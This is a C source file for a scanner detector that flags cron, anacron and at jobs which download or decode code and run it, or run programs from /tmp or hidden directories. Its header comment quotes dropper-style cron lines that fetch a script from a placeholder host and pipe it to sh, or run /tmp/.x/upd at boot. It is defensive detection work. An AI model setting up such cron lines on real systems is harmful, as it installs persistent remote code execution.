/*
 * det_per_cron.c - RM-PER-001: a cron, anacron or at job that downloads
 * and runs code, decodes and runs it, or runs a program from a
 * world-writable or hidden directory.
 *
 * The droppers' way back (Kinsing, TeamTNT, 8220, WatchDog, Outlaw, Rocke,
 * Perfctl): "* * * * * wget -q -O - http://IP/x.sh | sh", "@reboot
 * /tmp/.x/upd".  A download alone is not enough (a health-check ping
 * curls a URL every minute), nor is a dot-directory in a home (acme.sh
 * runs from /root/.acme.sh): those are at most info.  Running what was
 * fetched or decoded is high, and critical when it fires every few
 * minutes or at every boot; running a program from /tmp, /var/tmp or
 * /dev/shm is high; from a hidden directory elsewhere (/usr/bin/.x),
 * medium (high when frequent).  Paths given as arguments (find /tmp
 * -delete) run nothing and do not count.
 */
#include <stdio.h>
#include <string.h>

#include "../collect/cron_parse.h"
#include "detect_util.h"
#include "detector.h"

static const char *
kind_name(enum cron_file_kind k)
{
	switch (k) {
	case CRONF_SYSTEM: return "system crontab";
	case CRONF_USER: return "user crontab";
	case CRONF_ANACRON: return "anacrontab";
	case CRONF_SCRIPT: return "cron script";
	case CRONF_AT: return "at job";
	}
	return "?";
}

/* A path in a home directory (/root/.x, /home/u/.x), where tools keep
 * their dot-directories. */
static bool
in_home(const char *p)
{
	return p && (strncmp(p, "/root/", 6) == 0 ||
	    strncmp(p, "/home/", 6) == 0 || strncmp(p, "~/", 2) == 0 ||
	    strncmp(p, "$HOME/", 6) == 0);
}

static void
check(const struct detector *d, const struct snapshot *s,
      const struct fact *fa, struct findings *out)
{
	const struct cron_job *j = fa->u.cron_job;
	const struct cron_file *cf = j->file;
	unsigned fl = j->flags;
	bool fetch_run, frequent;
	enum severity sev;
	enum confidence conf;
	const char *what;
	struct finding *f;
	char where[64];

	fetch_run = ((fl & CMD_DOWNLOAD) && (fl & (CMD_SHELL_PIPE |
	    CMD_EXEC_FETCHED | CMD_INLINE))) || ((fl & CMD_DECODE) &&
	    (fl & (CMD_SHELL_PIPE | CMD_INLINE)));
	frequent = j->interval <= 5;  /* every <= 5 minutes, or @reboot */
	if (fetch_run) {
		what = (fl & CMD_DOWNLOAD) ? "downloads and runs code" :
		    "decodes and runs code";
		sev = frequent ? SEV_CRITICAL : SEV_HIGH;
		conf = CONF_HIGH;
	} else if (fl & CMD_WRITABLE) {
		/* no package installs a job that runs a program in /tmp */
		what = "runs a program from a world-writable directory";
		sev = SEV_HIGH;
		conf = frequent ? CONF_HIGH : CONF_MEDIUM;
	} else if ((fl & CMD_HIDDEN) && !in_home(j->path)) {
		what = "runs a program from a hidden directory";
		sev = frequent ? SEV_HIGH : SEV_MEDIUM;
		conf = CONF_MEDIUM;
	} else if (fl & CMD_HIDDEN) {
		what = "runs a program from a dot-directory in a home";
		sev = SEV_INFO;
		conf = CONF_LOW;
	} else {
		return;
	}
	f = findings_add(out, d, "%s %s:%u %s%s", kind_name(cf->kind),
	    cf->path, j->line, what, frequent ? (j->interval == 0 ?
	    ", at every boot" : ", every few minutes") : "");
	f->severity = sev;
	f->confidence = conf;
	finding_set_file(f, cf->path);
	finding_ev_int(f, "line", j->line);
	finding_ev_str(f, "file_kind", kind_name(cf->kind));
	if (j->schedule)
		finding_ev_str(f, "schedule", j->schedule);
	if (j->interval == 0)
		finding_ev_str(f, "runs", "at boot");
	else if (j->interval < (1u << 20)) {
		snprintf(where, sizeof(where), "every %u minute%s", j->interval,
		    j->interval == 1 ? "" : "s");
		finding_ev_str(f, "runs", where);
	}
	if (j->user)
		finding_ev_str(f, "user", j->user);
	else if (cf->user)
		finding_ev_str(f, "user", cf->user);
	finding_ev_str(f, "command", j->command);
	if (j->url)
		finding_ev_str(f, "url", j->url);
	if (j->path)
		finding_ev_str(f, "path", j->path);
	ev_cmd_does(f, fl);
	finding_ev_file_meta(f, "file_", cf->uid, cf->mode, cf->mtime);
	(void)s;
}

const struct detector det_per_cron = {
	.id = "RM-PER-001",
	.name = "Cron job that downloads and runs code",
	.category = CAT_PERSISTENCE,
	.severity = SEV_HIGH,
	.techniques = TECHNIQUES("T1053.003", "T1105"),
	.description = "A cron, anacron or at job downloads or decodes code "
	    "and runs it, or runs a program from a world-writable or hidden "
	    "directory: how miner droppers come back.",
	.remediation = "Keep a copy of the file, then remove the line (check "
	    "lsattr for the immutable flag first: droppers chattr +i their "
	    "crontabs), fetch nothing from the URL on this host, and look for "
	    "the process it starts, the other persistence it sets up "
	    "(authorized_keys, systemd units) and how it got in.",
	.kinds = FACT_CRON_JOB,
	.check = check,
};
